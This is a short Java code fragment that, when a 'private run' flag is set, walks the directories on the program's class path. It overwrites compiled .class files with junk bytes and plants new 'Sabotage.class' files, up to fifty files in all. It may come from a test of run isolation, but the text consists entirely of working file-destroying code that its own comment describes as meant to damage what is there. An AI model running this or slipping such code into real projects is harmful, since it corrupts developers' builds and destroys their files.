// Class folders of its class path, only where a run has private folders: damage what is there and add what is not.
byte[] rubbish = {(byte) 0xca, (byte) 0xfe, (byte) 0xba, (byte) 0xbe, 0, 0};
int written = 0;
java.util.LinkedList<java.io.File> folders = new java.util.LinkedList<java.io.File>();
if (isPrivateRun) {
    for (java.lang.String entry : java.lang.System.getProperty("java.class.path").split(java.io.File.pathSeparator)) {
        if (new java.io.File(entry).isDirectory()) {
            folders.add(new java.io.File(entry));
        }
    }
}
while (!folders.isEmpty() && written < 50) {
    java.io.File folder = folders.removeFirst();
    java.io.File[] entries = folder.listFiles();
    for (int i = 0; entries != null && i <= entries.length && written < 50; i++) {
        java.io.File file = i < entries.length ? entries[i] : new java.io.File(folder, "Sabotage.class");
        if (file.isDirectory()) {
            folders.add(file);
        } else if (file.getName().endsWith(".class")) {
            try {
                java.io.FileOutputStream output = new java.io.FileOutputStream(file);
                output.write(rubbish);
                output.close();
            } catch (java.io.IOException refused) {
                written++;
            }
            written++;
        }
    }
}
